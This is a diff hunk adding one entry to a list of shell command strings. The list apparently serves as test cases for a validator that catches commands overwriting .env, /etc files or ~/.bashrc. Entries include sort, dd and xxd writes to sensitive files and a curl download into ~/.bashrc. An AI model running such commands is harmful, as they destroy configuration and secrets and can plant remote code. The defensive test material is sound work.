@@ -95,6 +95,7 @@ SHELL = [
     "awk '{print > \"/etc/x\"}' a",
     "gawk -i inplace 1 .env",
     "sort -o .env a",
+    "sort -uo.env a",
     "xxd -r a .env",
     "dd if=a of=/etc/x",
     "curl -o ~/.bashrc https://x.example",
